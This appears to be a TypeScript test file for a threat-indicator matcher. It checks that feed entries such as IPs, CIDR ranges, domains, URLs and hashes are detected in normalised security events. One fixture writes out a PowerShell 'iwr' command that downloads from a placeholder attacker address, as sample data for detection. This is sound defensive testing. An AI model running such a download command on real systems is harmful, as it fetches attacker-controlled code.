import fc from "fast-check";
import ipaddr from "ipaddr.js";
import { describe, expect, test } from "vitest";
import { ocsfEvent } from "../../../test/support/events.ts";
import type { FieldValue, NormalizedEvent } from "../../schema/event.ts";
import type { OcsfEvent } from "../../schema/ocsf.ts";
import { readIndicator } from "./indicator.ts";
import { indicatorFindings } from "./indicator-finding.ts";
import { createIndicatorMatcher } from "./indicator-matcher.ts";
import { PrefixTable, parseIpv4 } from "./prefix-table.ts";

const EMPTY = { product: null, categories: [], services: [] };

function event(ocsf: Partial<OcsfEvent>, fields: Record<string, FieldValue> = {}): NormalizedEvent {
  return {
    sourceType: "test",
    logsource: EMPTY,
    fields: new Map(Object.entries(fields)),
    ocsf: { ...ocsfEvent(), ...ocsf },
  };
}

const LIST = { uid: "l1", name: "Feed", level: "high", updatedAt: 1, expiresAt: null } as const;

function matcherOf(...written: string[]): ReturnType<typeof createIndicatorMatcher<typeof LIST>> {
  const indicators = written.map((text) => {
    const result = readIndicator(text);
    if (!result.ok) throw new Error(result.error);
    return result.value;
  });
  return createIndicatorMatcher([{ list: LIST, indicators }]);
}

describe("an indicator is seen", () => {
  test.each<[string, Partial<OcsfEvent>, string]>([
    ["203.0.113.7", { dst_endpoint: { ip: "203.0.113.7" } }, "dst_endpoint.ip"],
    ["203.0.113.0/24", { src_endpoint: { ip: "203.0.113.200" } }, "src_endpoint.ip"],
    ["203.0.113.0/24", { src_endpoint: { ip: "::ffff:203.0.113.200" } }, "src_endpoint.ip"],
    ["2001:db8::/32", { dst_endpoint: { ip: "2001:db8:9::1" } }, "dst_endpoint.ip"],
    ["evil.example", { query: { hostname: "a.b.Evil.example." } }, "query.hostname"],
    ["evil.example", { tls: { sni: "evil.example" } }, "tls.sni"],
    ["203.0.113.7", { answers: [{ rdata: "203.0.113.7" }] }, "answers.rdata"],
    [
      "http://evil.example/a.php",
      { http_request: { url: { url_string: "https://evil.example/a.php?id=1" } } },
      "http_request.url.url_string",
    ],
    [
      "evil.example/a.php",
      { http_request: { url: { url_string: "/a.php", hostname: "evil.example" } } },
      "http_request.url.url_string",
    ],
    [
      "evil.example",
      { http_request: { url: { url_string: "http://www.evil.example/" } } },
      "http_request.url.url_string",
    ],
    [
      "203.0.113.7",
      { process: { cmd_line: "powershell iwr 'http://203.0.113.7:8080/x'" } },
      "process.cmd_line",
    ],
    [
      "44d88612fea8a8f36de82e1278abb02f",
      { file: { hashes: [{ algorithm_id: 1, value: "44D88612FEA8A8F36DE82E1278ABB02F" }] } },
      "file.hashes",
    ],
    ["evil.example", { email: { from: "Bank <pay@mail.evil.example>" } }, "email.from"],
  ])("%s in %j", (indicator, ocsf, place) => {
    expect(matcherOf(indicator).match(event(ocsf))).toMatchObject([{ place }]);
  });

  test.each<[string, FieldValue]>([
    ["203.0.113.0/24", "203.0.113.9"],
    ["evil.example", ["x", "www.evil.example"]],
    ["44d88612fea8a8f36de82e1278abb02f", "44D88612FEA8A8F36DE82E1278ABB02F"],
    ["http://evil.example/a", "http://evil.example/a"],
  ])("%s in a field of the source's own, %j", (indicator, value) => {
    expect(matcherOf(indicator).match(event({}, { any: value }))).toMatchObject([{ place: "any" }]);
  });
});

describe("an indicator is not seen", () => {
  test.each<[string, Partial<OcsfEvent>]>([
    ["evil.example", { query: { hostname: "notevil.example" } }],
    ["www.evil.example", { query: { hostname: "evil.example" } }],
    ["203.0.113.0/24", { dst_endpoint: { ip: "203.0.114.1" } }],
    ["http://evil.example/a", { http_request: { url: { url_string: "http://evil.example/ab" } } }],
    ["203.0.113.7", { dst_endpoint: { hostname: "203.0.113.7.good.example" } }],
  ])("%s in %j", (indicator, ocsf) => {
    expect(matcherOf(indicator).match(event(ocsf))).toEqual([]);
  });
});

const ORIGIN = { tenantUid: "t1", sourceName: "s", receivedAt: 1000, eventUid: "s-0-0" };

test("a finding a list and event, with what was seen as an entity; the same whenever it is worked out", () => {
  const seen = event({ query: { hostname: "www.evil.example" } }, { ip: "203.0.113.7" });
  const hits = matcherOf("evil.example", "203.0.113.7").match(seen);
  const [finding, ...rest] = indicatorFindings(hits, seen, ORIGIN);
  expect(rest).toEqual([]);
  expect(finding).toMatchObject({
    detectorKind: "indicator",
    detectorUid: "l1",
    title: "Indicator seen: Feed",
    level: "high",
    matched: [
      { selection: "domain", field: "query.hostname", pattern: "evil.example", value: "www.evil.example" },
      { selection: "ip", field: "ip", pattern: "203.0.113.7", value: "203.0.113.7" },
    ],
  });
  expect(finding?.entities).toEqual(
    expect.arrayContaining([
      { kind: "domain", value: "evil.example", role: "indicator" },
      { kind: "ip", value: "203.0.113.7", role: "indicator" },
    ]),
  );
  expect(indicatorFindings(hits, seen, ORIGIN)).toEqual([finding]);
});

test("a list says nothing of what was received after it expired", () => {
  const list = { ...LIST, expiresAt: 1000 };
  const seen = event({ query: { hostname: "evil.example" } });
  const indicators = [{ kind: "domain", value: "evil.example" }] as const;
  const hits = createIndicatorMatcher([{ list, indicators }]).match(seen);
  expect(indicatorFindings(hits, seen, { ...ORIGIN, receivedAt: 999 })).toHaveLength(1);
  expect(indicatorFindings(hits, seen, { ...ORIGIN, receivedAt: 1000 })).toEqual([]);
});

test("addresses are found in networks as a plain reading finds them", () => {
  const network = fc.oneof(
    fc.tuple(fc.ipV4(), fc.nat(32)).map(([address, bits]) => `${address}/${bits}`),
    fc.tuple(fc.ipV6(), fc.nat(128)).map(([address, bits]) => `${address}/${bits}`),
  );
  // few leading bits differ, so that networks are hit
  const near = fc.nat(0xffff).map((low) => `10.1.${low >> 8}.${low & 255}`);
  fc.assert(
    fc.property(
      fc.array(
        fc.oneof(
          network,
          near.chain((address) => fc.nat(32).map((bits) => `${address}/${bits}`)),
        ),
      ),
      fc.oneof(near, fc.ipV4(), fc.ipV6()),
      (networks, text) => {
        const table = new PrefixTable<string>();
        for (const one of networks) table.add(one, one);
        const address = ipaddr.process(text);
        const expected = networks.filter((one) => {
          const range = ipaddr.parseCIDR(one);
          return range[0].kind() === address.kind() && address.match(range);
        });
        expect([...table.find(text)].toSorted()).toEqual(expected.toSorted());
      },
    ),
    { numRuns: 300 },
  );
});

test("IPv4 addresses are read as the library reads four decimal parts", () => {
  const part = fc.oneof(fc.nat(300).map(String), fc.constantFrom("", "01", "1x", "0"));
  fc.assert(
    fc.property(fc.array(part, { minLength: 3, maxLength: 5 }), (parts) => {
      const text = parts.join(".");
      expect(parseIpv4(text) >= 0).toBe(ipaddr.IPv4.isValidFourPartDecimal(text));
    }),
    { numRuns: 1000 },
  );
});
